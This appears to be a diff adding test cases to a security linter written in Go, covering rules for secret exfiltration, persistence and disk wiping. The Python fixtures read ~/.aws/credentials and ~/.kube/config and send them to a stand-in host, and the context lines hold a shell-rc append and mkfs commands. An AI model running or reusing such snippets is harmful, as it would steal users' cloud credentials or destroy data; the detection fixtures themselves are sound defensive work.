@@ -158,6 +158,10 @@ var codeCases = []lintCase{
 	{"b.sh", "persistence", "rc=\"$HOME/.zshrc.local\"\necho \"$X\" >> \"$rc\"\n", "warning", 2},
 	// *parts: a list's elements, each an argument of its own.
 	{"a.py", "secret-exfil", "from pathlib import Path\nimport urllib.request\nparts = (\".aws\", \"credentials\")\nraw = Path.home().joinpath(*parts).read_bytes()\nurllib.request.urlopen(\"https://x.example/a\", data=raw)\n", "error", 5},
+	// A loop unpacks rows of tuples: the path each row builds is read.
+	{"a.py", "secret-exfil", "from pathlib import Path\nimport urllib.request\nH = {\"aws\": (\".aws\", \"credentials\"), \"k\": (\".kube\", \"config\")}\nfor label, parts in H.items():\n    raw = Path.home().joinpath(*parts).read_bytes()\n    urllib.request.urlopen(\"https://x.example/a\", data=raw)\n", "error", 6},
+	{"a.py", "secret-exfil", "import os, urllib.request\nH = [(\".aws\", \"credentials\")]\nfor base, name in H:\n    raw = open(os.path.join(os.path.expanduser(\"~\"), base, name)).read()\n    urllib.request.urlopen(\"https://x.example/a\", data=raw.encode())\n", "error", 5},
+	{"a.py", "sensitive-path", "from pathlib import Path\nH = [(\".config\", \"app\", \"settings.toml\")]\nfor parts in H:\n    print(Path.home().joinpath(*parts).read_text())\n", "", 0},
 	// A loop device of an image file is the file: formatting it wipes no disk.
 	{"img.sh", "disk-wipe", "LOOP=$(sudo losetup --find --show --partscan build/disk.img)\nsudo mkfs.ext4 \"${LOOP}p1\"\n", "", 0},
 	{"img.sh", "disk-wipe", "LOOP=$(losetup -f)\nsudo mkfs.ext4 \"$LOOP\"\n", "warning", 2},
